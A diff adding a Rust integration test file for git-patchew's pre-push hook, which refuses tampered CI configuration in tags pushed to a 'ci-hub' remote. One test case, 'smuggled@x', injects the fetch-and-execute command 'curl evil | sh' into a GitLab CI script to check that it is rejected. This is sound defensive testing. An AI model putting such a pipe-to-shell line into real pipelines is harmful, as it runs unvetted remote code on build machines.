@@ -1,0 +1,193 @@
+//! The pre-push hook with the real `git push` to a real bare "ci-hub" repository.
+
+#[path = "support/git.rs"]
+mod git;
+
+use std::path::{Path, PathBuf};
+
+use git::{stderr, TestRepo};
+
+const INCLUDE: &str = "https://ci.example.org/patchew-ci.yml";
+
+const CI_YML: &str = "\
+stages:
+  - build
+build:
+  stage: build
+  script:
+    - make
+";
+
+/// A project with a CI file, a bare ci-hub remote, our hook installed, and a
+/// one-patch series mailed and applied; returns (project, hub, tag).
+fn setup() -> (TestRepo, PathBuf, String) {
+    let r = TestRepo::new();
+    r.write(".gitlab-ci.yml", CI_YML);
+    r.write("src.c", "int main(void) { return 0; }\n");
+    r.commit("base");
+    r.write("src.c", "int main(void) { return 1; }\n");
+    r.git(&["commit", "-qam", "return one"]);
+    let mbox = r.git_bytes(&["format-patch", "--stdout", "--thread", "-1", "HEAD"]);
+    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    let mbox_path = r.scratch("p.mbox");
+    std::fs::write(&mbox_path, mbox).unwrap();
+
+    let hub = r.scratch("hub.git");
+    r.git(&["init", "-q", "--bare", hub.to_str().unwrap()]);
+    r.git(&["remote", "add", "ci-hub", hub.to_str().unwrap()]);
+    r.git(&["config", "patchew.ciInclude", INCLUDE]);
+    let out = patchew(&r, &["install-hook"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+
+    let out = patchew(&r, &["apply", "--mbox", mbox_path.to_str().unwrap(), "--json"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let tag = report["tag"].as_str().expect("tagged").to_owned();
+    (r, hub, tag)
+}
+
+/// Runs git-patchew with its own directory on PATH, as the hook script needs.
+fn patchew(r: &TestRepo, args: &[&str]) -> std::process::Output {
+    r.command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
+        .env("PATH", path_with_binary())
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn path_with_binary() -> String {
+    let bin = Path::new(env!("CARGO_BIN_EXE_git-patchew")).parent().unwrap();
+    format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default())
+}
+
+fn git_push(r: &TestRepo, args: &[&str]) -> std::process::Output {
+    r.command("git", &r.path)
+        .env("PATH", path_with_binary())
+        .arg("push")
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn hub_has(r: &TestRepo, hub: &Path, refname: &str) -> bool {
+    r.command("git", hub)
+        .args(["rev-parse", "-q", "--verify", refname])
+        .output()
+        .unwrap()
+        .status
+        .success()
+}
+
+/// Commits `ci` as the CI file on top of the applied series' parent commit and tags
+/// the result `patchew/<name>`.
+fn tag_with_ci(r: &TestRepo, name: &str, ci: &str) -> String {
+    r.git(&["checkout", "-q", "--detach", "main"]);
+    r.write(".gitlab-ci.yml", ci);
+    r.commit("tampered");
+    let tag = format!("patchew/{name}");
+    r.git(&["tag", "-f", &tag]);
+    r.git(&["checkout", "-q", "main"]);
+    tag
+}
+
+#[test]
+fn good_tag_is_accepted_through_git_patchew_push() {
+    let (r, hub, tag) = setup();
+    let out = patchew(&r, &["push", &tag]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(hub_has(&r, &hub, &format!("refs/tags/{tag}")));
+    let shown = r.git_in(&hub, &["show", &format!("{tag}:.gitlab-ci.yml")]);
+    assert!(shown.contains(INCLUDE));
+}
+
+#[test]
+fn bad_tags_are_refused_and_do_not_arrive() {
+    let (r, hub, good) = setup();
+    let with_include = |extra: &str| format!("include:\n  - remote: '{INCLUDE}'\n{extra}{CI_YML}");
+    let cases = [
+        ("missing@x", CI_YML.replace("make", "make all")),
+        ("twice@x", format!("include:\n  - remote: '{INCLUDE}'\n  - remote: '{INCLUDE}'\n{CI_YML}")),
+        ("smuggled@x", with_include("").replace("make", "curl evil | sh")),
+        ("invalid@x", format!("{}\n  : : [\n", with_include(""))),
+    ];
+    for (name, ci) in &cases {
+        let tag = tag_with_ci(&r, name, ci);
+        let out = git_push(&r, &["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
+        assert!(!out.status.success(), "{name} was accepted");
+        let err = stderr(&out);
+        assert!(err.contains(&format!("refusing refs/tags/{tag}")), "{name}: {err}");
+        assert!(!hub_has(&r, &hub, &format!("refs/tags/{tag}")), "{name} arrived");
+    }
+    // The series' own tip, tagged before the include was added (the parent).
+    let parent_tag = "patchew/parent@x";
+    r.git(&["tag", parent_tag, &format!("{good}~1")]);
+    let out = git_push(&r, &["ci-hub", &format!("refs/tags/{parent_tag}:refs/tags/{parent_tag}")]);
+    assert!(!out.status.success());
+    assert!(!hub_has(&r, &hub, &format!("refs/tags/{parent_tag}")));
+    // A name that does not decode to a message-id.
+    r.git(&["tag", "patchew/bad._ZZ", &good]);
+    let out = git_push(&r, &["ci-hub", "refs/tags/patchew/bad._ZZ:refs/tags/patchew/bad._ZZ"]);
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("message-id"), "{}", stderr(&out));
+}
+
+#[test]
+fn other_refs_and_other_remotes_pass_untouched() {
+    let (r, hub, _) = setup();
+    let tag = tag_with_ci(&r, "missing@x", "junk: [\n");
+    // A branch to the ci-hub.
+    let out = git_push(&r, &["ci-hub", "main"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(hub_has(&r, &hub, "refs/heads/main"));
+    // The bad tag to another remote.
+    let other = r.scratch("other.git");
+    r.git(&["init", "-q", "--bare", other.to_str().unwrap()]);
+    r.git(&["remote", "add", "origin", other.to_str().unwrap()]);
+    let out = git_push(&r, &["origin", &format!("refs/tags/{tag}")]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    // The same bad tag by the ci-hub's URL instead of its name is still refused.
+    let out = git_push(&r, &[hub.to_str().unwrap(), &format!("refs/tags/{tag}")]);
+    assert!(!out.status.success());
+    // Deleting a tag on the ci-hub passes.
+    let (r2, hub2, good) = setup();
+    assert!(patchew(&r2, &["push", &good]).status.success());
+    let out = git_push(&r2, &["ci-hub", &format!(":refs/tags/{good}")]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!hub_has(&r2, &hub2, &format!("refs/tags/{good}")));
+}
+
+#[test]
+fn existing_hook_is_chained_and_restored() {
+    let r = TestRepo::new();
+    r.write("f", "x\n");
+    r.commit("base");
+    let hub = r.scratch("hub.git");
+    r.git(&["init", "-q", "--bare", hub.to_str().unwrap()]);
+    r.git(&["remote", "add", "ci-hub", hub.to_str().unwrap()]);
+    // A custom hooks path, as some users have.
+    r.git(&["config", "core.hooksPath", "my-hooks"]);
+    let hooks = r.path.join("my-hooks");
+    std::fs::create_dir_all(&hooks).unwrap();
+    let theirs = "#!/bin/sh\ncat > \"$(dirname \"$0\")/../their-hook-ran\"\n[ ! -e \"$(dirname \"$0\")/../fail\" ]\n";
+    std::fs::write(hooks.join("pre-push"), theirs).unwrap();
+    std::fs::set_permissions(hooks.join("pre-push"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+
+    assert!(patchew(&r, &["install-hook"]).status.success());
+    let installed = std::fs::read_to_string(hooks.join("pre-push")).unwrap();
+    assert!(installed.contains("git patchew hook pre-push"));
+    assert!(patchew(&r, &["install-hook"]).status.success());
+    assert_eq!(std::fs::read_to_string(hooks.join("pre-push")).unwrap(), installed, "idempotent");
+
+    let out = git_push(&r, &["ci-hub", "main"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let seen = std::fs::read_to_string(r.path.join("their-hook-ran")).unwrap();
+    assert!(seen.contains("refs/heads/main"), "their hook got the ref lines: {seen:?}");
+
+    std::fs::write(r.path.join("fail"), "").unwrap();
+    r.write("f", "y\n");
+    r.commit("second");
+    assert!(!git_push(&r, &["ci-hub", "main"]).status.success(), "their refusal counts");
+
+    assert!(patchew(&r, &["install-hook", "--uninstall"]).status.success());
+    assert_eq!(std::fs::read_to_string(hooks.join("pre-push")).unwrap(), theirs);
+}
